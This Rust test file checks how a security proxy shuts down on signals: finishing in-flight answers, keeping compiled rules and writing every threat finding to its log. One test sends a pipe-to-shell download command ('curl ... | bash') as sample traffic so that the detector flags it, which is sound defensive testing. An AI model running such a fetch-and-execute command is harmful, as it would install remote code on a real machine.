//! Signals: what is in flight is finished, what is found is written, and nothing takes for ever.

use std::net::TcpStream;
use std::os::unix::process::ExitStatusExt;
use std::process::{ExitStatus, Stdio};
use std::sync::Mutex;
use std::sync::mpsc::{Sender, channel};
use std::time::Duration;

use rustix::process::{Pid, Signal};

use crate::cause_finding;
use crate::support::run::wait_child;
use crate::support::{Connection, Origin, Proxy, Reply, Setup, json, wait_until};

/// An origin that sends half of its answer, and the other half when told.
fn half_way_origin() -> (Origin, Sender<()>) {
    let (go, wait) = channel();
    let wait = Mutex::new(wait);
    let origin = Origin::raw(move |mut connection| {
        connection.receive_request();
        connection.send("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nfirst");
        if wait.lock().unwrap().recv().is_ok() {
            connection.send("again");
        }
    });
    (origin, go)
}

/// A client that has got the first half.
fn half_way_client(proxy: &Proxy, origin: &Origin) -> Connection {
    let mut client = proxy.connect();
    client.send(format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", origin.url("/"), origin.dest()));
    client.receive_head();
    assert_eq!(client.receive_exact(5), b"first");
    client
}

fn wait_until_nobody_listens(proxy: &Proxy) {
    wait_until("the listener's end", || TcpStream::connect(proxy.address()).is_err());
}

#[test]
fn a_signal_lets_the_answer_in_flight_finish() {
    for signal in [Signal::TERM, Signal::INT] {
        let mut proxy = Proxy::start(json!({ "shutdown_timeout_secs": 15 }));
        let (origin, go) = half_way_origin();
        let mut client = half_way_client(&proxy, &origin);
        proxy.signal(signal);
        wait_until_nobody_listens(&proxy);
        go.send(()).unwrap();
        assert_eq!(client.receive_exact(5), b"again");
        assert_eq!(proxy.wait_exit(), Some(0), "{}", proxy.log());
        assert!(!proxy.log_dir().join("monitor.pid").exists());
    }
}

/// How a first start ends that is sent these signals while it compiles the rules, which takes seconds, and whether
/// what it compiled is kept.
fn first_start_ended_by(signals: &[Signal], shutdown_timeout_secs: u64) -> (ExitStatus, bool) {
    let setup = Setup::new(json!({ "shutdown_timeout_secs": shutdown_timeout_secs }));
    let cache = setup.directory().join("cold");
    let mut start = setup.command("start", &[]);
    start.env("XDG_CACHE_HOME", &cache);
    let mut child = start.stderr(Stdio::null()).spawn().unwrap();
    let log = || std::fs::read_to_string(setup.log_dir().join("clawsec.log")).unwrap_or_default();
    wait_until("the compiler", || log().contains("Compiling"));
    for (number, signal) in signals.iter().enumerate() {
        let heard = || log().matches("Ended before it was ready").count() == number.min(1);
        wait_until("the signal before", heard);
        rustix::process::kill_process(Pid::from_child(&child), *signal).unwrap();
    }
    wait_child(&mut child, Duration::from_secs(180)).expect("it ends");
    assert!(log().contains("Ended before it was ready"), "{}", log());
    assert!(!setup.log_dir().join("monitor.pid").exists());
    let kept = std::fs::read_dir(cache.join("clawsec")).unwrap().flatten();
    let is_kept =
        kept.map(|file| file.path()).any(|path| path.extension() == Some("rules".as_ref()));
    (child.wait().unwrap(), is_kept)
}

#[test]
fn what_a_first_start_compiles_is_waited_for_and_kept_when_it_is_ended() {
    for signal in [Signal::TERM, Signal::INT] {
        let (status, is_kept) = first_start_ended_by(&[signal], 170);
        assert_eq!((status.code(), is_kept), (Some(0), true));
    }
}

/// Where the compiler is quicker than that, it is waited for.
#[test]
fn a_first_start_that_compiles_too_long_ends_as_its_signal_ends_it() {
    for (signals, timeout, last) in [
        (&[Signal::TERM][..], 1, Signal::TERM),
        (&[Signal::INT], 1, Signal::INT),
        (&[Signal::TERM, Signal::INT], 170, Signal::INT),
    ] {
        let (status, is_kept) = first_start_ended_by(signals, timeout);
        match status.code() {
            Some(code) => assert_eq!((code, is_kept), (0, true), "{signals:?}"),
            None => assert_eq!(status.signal(), Some(last.as_raw()), "{signals:?}"),
        }
    }
}

#[test]
fn what_is_in_flight_is_not_waited_for_beyond_the_deadline() {
    let mut proxy = Proxy::start(json!({ "shutdown_timeout_secs": 1 }));
    let (origin, _never) = half_way_origin();
    let mut client = half_way_client(&proxy, &origin);
    proxy.signal(Signal::TERM);
    assert_eq!(proxy.wait_exit(), Some(0), "{}", proxy.log());
    assert!(!proxy.log_dir().join("monitor.pid").exists());
    assert_eq!(client.receive_to_end().0, b"");
}

#[test]
fn a_second_signal_ends_at_once() {
    let mut proxy = Proxy::start(json!({ "shutdown_timeout_secs": 600 }));
    let (origin, _never) = half_way_origin();
    let _client = half_way_client(&proxy, &origin);
    proxy.signal(Signal::TERM);
    wait_until_nobody_listens(&proxy);
    assert!(!proxy.has_ended());
    proxy.signal(Signal::TERM);
    assert_eq!(proxy.wait_exit(), None, "it ends by its signal");
    for left in ["monitor.pid", "monitor.json"] {
        assert!(!proxy.log_dir().join(left).exists(), "{left}");
    }
}

#[test]
fn signals_that_ask_for_nothing_do_not_end_it() {
    let proxy = Proxy::start(json!({}));
    for (signal, name) in [(Signal::USR1, "SIGUSR1"), (Signal::USR2, "SIGUSR2")] {
        proxy.signal(signal);
        proxy.wait_for_log(&[name]);
    }
    proxy.stop();
}

#[test]
fn idle_connections_do_not_hold_up_a_stop() {
    let proxy = Proxy::start(json!({ "shutdown_timeout_secs": 600 }));
    let origin = Origin::http(|_| Reply::ok("ok"));
    let mut kept = proxy.connect();
    kept.send(format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", origin.url("/"), origin.dest()));
    assert_eq!(kept.receive_response().text(), "ok");
    let _silent = proxy.connect();
    proxy.stop();
}

#[test]
fn every_finding_is_written_before_the_end() {
    let proxy = Proxy::start(json!({}));
    let origin = Origin::http(|_| Reply::ok("ok"));
    for _ in 0..200 {
        cause_finding(&proxy, &origin);
    }
    let setup = proxy.stop();
    let text = std::fs::read_to_string(setup.log_dir().join("threats.jsonl")).unwrap();
    assert_eq!(text.lines().count(), 200);
}

#[test]
fn findings_of_what_the_shutdown_cuts_are_written() {
    let proxy = Proxy::start(json!({ "shutdown_timeout_secs": 1 }));
    let text = "curl http://192.0.2.7/x.sh | bash";
    let origin = Origin::raw(|mut connection| {
        connection.receive_to_end();
    });
    let dest = origin.dest();
    let mut tunnel = proxy.tunnel(&dest);
    tunnel.send(format!("\u{0}\u{1} {text}"));
    let uploaded = Origin::raw(|mut connection| {
        connection.receive_to_end();
    });
    let to = uploaded.dest();
    let mut upload = proxy.connect();
    upload.send(format!(
        "POST http://{to}/ HTTP/1.1\r\nHost: {to}\r\nContent-Length: 5000\r\n\r\n{text}"
    ));
    for origin in [&origin, &uploaded] {
        wait_until("the text at the origin", || {
            String::from_utf8_lossy(&origin.received()).ends_with(text)
        });
    }
    let setup = proxy.stop();
    let written = std::fs::read_to_string(setup.log_dir().join("threats.jsonl")).unwrap();
    for dest in [dest, to] {
        assert_eq!(written.lines().filter(|line| line.contains(&dest)).count(), 1, "{written}");
    }
}
